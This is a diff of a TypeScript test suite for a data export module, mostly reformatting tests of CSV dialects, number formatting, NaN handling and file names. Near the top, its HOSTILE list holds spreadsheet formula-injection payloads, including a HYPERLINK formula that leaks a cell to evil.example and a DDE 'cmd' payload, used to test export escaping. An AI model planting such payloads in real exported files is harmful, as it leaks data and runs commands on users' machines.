@@ -12,7 +12,7 @@ import { readXlsx } from './xlsx';
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
-  '+1+cmd|\' /C calc\'!A0',
+  "+1+cmd|' /C calc'!A0",
   '-2+3',
   '@SUM(1,1)',
   '\t=1+1',
@@ -67,7 +67,16 @@ describe('CSV export', () => {
   });
 
   it('writes , CSV with a decimal point and quotes a field holding the delimiter', () => {
-    const text = exportCsvText({ columns: [{ name: 'a' }, { name: 'n' }], rows: [{ a: 'x,y', n: -0.5 }, { a: null, n: null }] }, 'en');
+    const text = exportCsvText(
+      {
+        columns: [{ name: 'a' }, { name: 'n' }],
+        rows: [
+          { a: 'x,y', n: -0.5 },
+          { a: null, n: null },
+        ],
+      },
+      'en',
+    );
     expect(text).toBe('a,n\r\n"x,y",-0.5\r\n,\r\n');
   });
 
@@ -83,7 +92,10 @@ const AWKWARD = [1e-7, 1e21, 5e-324, 1.7976931348623157e308, -1.7976931348623157
 
 describe('CSV numbers', () => {
   it.each(['da', 'en'] as const)('writes plain decimals (%s) that read back to the same doubles', (style) => {
-    const t: ExportTable = { columns: [{ name: 'v', type: 'DOUBLE' }, { name: 'mixed' }], rows: AWKWARD.map((v) => ({ v, mixed: v })) };
+    const t: ExportTable = {
+      columns: [{ name: 'v', type: 'DOUBLE' }, { name: 'mixed' }],
+      rows: AWKWARD.map((v) => ({ v, mixed: v })),
+    };
     const text = exportCsvText(t, style);
     expect(text).not.toMatch(/\d[eE][+-]?\d/);
     const back = parseGenericCsv(text, style === 'da' ? ';' : ',');
@@ -95,7 +107,13 @@ describe('CSV numbers', () => {
   });
 
   it('writes 1e-7 and 1e21 as decimals in both dialects, -0 as 0, and never guards a typed number', () => {
-    const t: ExportTable = { columns: [{ name: 'a' }, { name: 'b' }], rows: [{ a: 1e-7, b: 1e21 }, { a: -0, b: -1.5 }] };
+    const t: ExportTable = {
+      columns: [{ name: 'a' }, { name: 'b' }],
+      rows: [
+        { a: 1e-7, b: 1e21 },
+        { a: -0, b: -1.5 },
+      ],
+    };
     expect(exportCsvText(t, 'da')).toBe('a;b\r\n0,0000001;1000000000000000000000\r\n0;-1,5\r\n');
     expect(exportCsvText(t, 'en')).toBe('a,b\r\n0.0000001,1000000000000000000000\r\n0,-1.5\r\n');
   });
@@ -105,7 +123,13 @@ describe('CSV numbers', () => {
     ['-Infinity', -Infinity],
     ['NaN', NaN],
   ])('refuses %s in every format without an IEEE number, naming the cell; Parquet keeps it', async (_n, v) => {
-    const t: ExportTable = { columns: [{ name: 'label' }, { name: 'ratio', type: 'DOUBLE' }], rows: [{ label: 'a', ratio: 1 }, { label: 'b', ratio: v }] };
+    const t: ExportTable = {
+      columns: [{ name: 'label' }, { name: 'ratio', type: 'DOUBLE' }],
+      rows: [
+        { label: 'a', ratio: 1 },
+        { label: 'b', ratio: v },
+      ],
+    };
     for (const format of ['csv-da', 'csv', 'xlsx', 'json'] as const) {
       const err = await exportFile(format, t, stamp, 'q', 'en').then(
         () => null,
@@ -140,8 +164,13 @@ describe('rows of objects (rejected rows, trace rows) through the same writer', 
   });
 
   it('writes the Danish dialect and takes columns in first-seen order when none are given', () => {
-    const rows = [{ nace: '25', share: 1e-7 }, { nace: '@x', amount: -1234.5 }];
-    expect(new TextDecoder().decode(csvDownload(rows, 'cells.csv', undefined, 'da').bytes)).toBe("nace;share;amount\r\n25;0,0000001;\r\n'@x;;-1234,5\r\n");
+    const rows = [
+      { nace: '25', share: 1e-7 },
+      { nace: '@x', amount: -1234.5 },
+    ];
+    expect(new TextDecoder().decode(csvDownload(rows, 'cells.csv', undefined, 'da').bytes)).toBe(
+      "nace;share;amount\r\n25;0,0000001;\r\n'@x;;-1234,5\r\n",
+    );
   });
 });
 
@@ -180,5 +209,7 @@ describe('Parquet and JSON exports', () => {
 });
 
 it('puts the stamp’s essentials in the file name', () => {
-  expect(stampFileName('Gains by theme', stamp, 'csv')).toBe('gains-by-theme_demo-made-2017-ab12cd34_damvad-2017+1_2026-11-23_v0.1.0.csv');
+  expect(stampFileName('Gains by theme', stamp, 'csv')).toBe(
+    'gains-by-theme_demo-made-2017-ab12cd34_damvad-2017+1_2026-11-23_v0.1.0.csv',
+  );
 });
